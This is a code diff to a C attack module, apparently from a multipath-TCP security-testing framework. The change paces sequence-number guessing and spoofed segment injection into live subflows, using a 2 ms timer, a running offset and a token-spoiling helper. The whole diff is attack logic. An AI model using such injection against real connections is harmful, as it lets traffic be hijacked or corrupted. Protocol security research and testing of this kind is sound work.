@@ -16,10 +16,11 @@
 
 enum { SIZE, VOLUME, STEP };
 enum { MSS = 1000 };
+#define PACE UINT64_C(2000000) /* ns */
 static const struct atk_param params[] = {
-    [SIZE] = {"size", ATK_P_SIZE, .initial = 4000, .min = 1, .max = 64000},
-    [VOLUME] = {"volume", ATK_P_SIZE, .initial = 2000000, .max = 1000000000},
-    [STEP] = {"step", ATK_P_SIZE, .initial = 40000, .min = 1,
+    [SIZE] = {"size", ATK_P_SIZE, .initial = 1000, .min = 1, .max = 64000},
+    [VOLUME] = {"volume", ATK_P_SIZE, .initial = 3000000, .max = 1000000000},
+    [STEP] = {"step", ATK_P_SIZE, .initial = 10000, .min = 1,
               .max = 1000000000},
     {.name = NULL},
 };
@@ -28,6 +29,7 @@ struct state {
     struct atk_flows flows;
     uint64_t token[ATK_FLOWS_MAX]; /* of the server */
     uint8_t token_len[ATK_FLOWS_MAX];
+    uint64_t tried; /* octets that the other end may have sent */
 };
 
 static enum atk_verdict see(struct atk *a, void *state,
@@ -77,39 +79,41 @@ static void inject_one(struct atk *a, const struct atk_watched *f, uint64_t dsn,
 }
 
 static void inject(struct atk *a, const struct atk_watched *f, uint64_t dsn,
-                   uint64_t now)
+                   uint64_t sent, uint64_t now)
 {
     struct atk_watched guess = *f;
     struct atk_way *w = &guess.way[1];
 
-    for (uint64_t sent = 0; sent <= atk_param(a, VOLUME);
-         sent += atk_param(a, STEP)) {
-        w->ack = f->way[1].ack + (uint32_t)sent;
-        for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
-            w->next = f->way[1].next + (uint32_t)at;
-            inject_one(a, &guess, dsn, at, now);
-        }
+    w->ack = f->way[1].ack + (uint32_t)sent;
+    for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
+        w->next = f->way[1].next + (uint32_t)at;
+        inject_one(a, &guess, dsn, at, now);
     }
 }
 
+static uint64_t spoiled(struct atk *a, uint64_t token)
+{
+    uint8_t b[8];
+
+    mpx_put32(b, (uint32_t)(token >> 32));
+    mpx_put32(b + 4, (uint32_t)token);
+    atk_spoil(a, b, sizeof b);
+    return (uint64_t)mpx_get32(b) << 32 | mpx_get32(b + 4);
+}
+
+/* One guess for each subflow at a time: the path's queue is short. */
 static void act(struct atk *a, void *state, uint64_t now)
 {
     struct state *st = state;
 
-    for (unsigned i = 0; i < st->flows.n; i++) {
-        uint8_t token[8];
-
-        if (!atk_flows_live(&st->flows.v[i]) || !st->token_len[i])
-            continue;
-        mpx_put32(token, (uint32_t)(st->token[i] >> 32));
-        mpx_put32(token + 4, (uint32_t)st->token[i]);
-        atk_spoil(a, token, sizeof token);
-        inject(
-            a, &st->flows.v[i],
-            first_dsn((uint64_t)mpx_get32(token) << 32 | mpx_get32(token + 4),
-                      st->token_len[i]),
-            now);
-    }
+    for (unsigned i = 0; i < st->flows.n; i++)
+        if (atk_flows_live(&st->flows.v[i]) && st->token_len[i])
+            inject(a, &st->flows.v[i],
+                   first_dsn(spoiled(a, st->token[i]), st->token_len[i]),
+                   st->tried, now);
+    st->tried += atk_param(a, STEP);
+    if (st->tried <= atk_param(a, VOLUME))
+        atk_set_timer(a, now + PACE);
 }
 
 const struct atk_ops atk_dsn_infer = {
@@ -122,4 +126,5 @@ const struct atk_ops atk_dsn_infer = {
     .state_size = sizeof(struct state),
     .see = see,
     .act = act,
+    .timer = act,
 };
